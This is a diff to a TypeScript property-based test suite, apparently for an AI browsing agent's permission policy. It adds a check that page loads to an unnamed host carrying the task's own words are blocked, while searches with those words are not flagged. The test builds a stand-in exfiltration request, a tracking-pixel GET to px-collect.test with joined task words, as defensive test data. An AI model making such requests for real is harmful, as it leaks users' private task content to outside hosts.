@@ -26,7 +26,9 @@ import { NUM_RUNS } from '../support/arbitraries';
  *   add, a review, a save) passes only as an action the words name;
  * - an order placed is one of the orders the words name: beyond their count no order ALLOWs, however many payments
  *   the words name beside it on the site (a class's count of payments is no count of orders);
- * - a write that carries money where the words name none (no amount, no payment or order) never ALLOWs.
+ * - a write that carries money where the words name none (no amount, no payment or order) never ALLOWs;
+ * - a page's load to a host the task does not name never carries the task's own words off (two of them joined in
+ *   one query value); the agent's own navigation with them (a search) is not held by it.
  */
 
 const NOW = 1_800_000_000_000;
@@ -316,6 +318,24 @@ describe('task-scoped writes on generic sites (theorems)', () => {
         const site = task.split(' ')[1]!.replace(/,$/, '');
         const record = decide(policies.get(task)!, { tool: 'browser.form_submit', args: { url: `https://${site}/booking/new`, method: 'POST', fields: { date: '2026-12-04', pickup: 'package', [field]: value }, submitText: 'Book' } });
         expect(record.decision, `${task} / ${record.reason}`).not.toBe('ALLOW');
+      }),
+      params,
+    );
+  });
+
+  it("a page's load to a host the task does not name never carries two of the task's words joined; a search with them is not held", async () => {
+    const tasks = ['post on my linkedin that i just finished the aws solutions architect cert', 'post on social.test that our quarterly roadmap review moved to friday', 'leave a review on shop.test saying the kettle boils fast'] as const;
+    for (const t of tasks) await policyOf(t);
+    const TASK_WORDS: Record<(typeof tasks)[number], readonly string[]> = { [tasks[0]]: ['aws', 'cert', 'architect'], [tasks[1]]: ['roadmap', 'quarterly', 'friday'], [tasks[2]]: ['kettle', 'boils', 'fast'] };
+    const joiner = fc.constantFrom('-', '_', '+', ' ', '.', '%20');
+    fc.assert(
+      fc.property(fc.constantFrom(...tasks), joiner, fc.constantFrom('image', 'ping', 'other'), fc.constantFrom('post', 'd', 'title', 'ev'), (task, sep, kind, param) => {
+        const [a, b] = TASK_WORDS[task];
+        const value = `${a}${sep}${b}`.toUpperCase();
+        const load = decide(policies.get(task)!, { tool: 'browser.request', args: { method: 'GET', url: `https://px-collect.test/t.gif?${param}=${encodeURIComponent(value)}`, kind } });
+        expect(load.decision, `${task} / ${load.reason}`).not.toBe('ALLOW');
+        const search = decide(policies.get(task)!, { tool: 'browser.navigate', args: { url: `https://search.test/?q=${encodeURIComponent(`${a} ${b}`)}` } });
+        expect(search.check, `${task} / ${search.reason}`).not.toBe('exfiltration_url');
       }),
       params,
     );
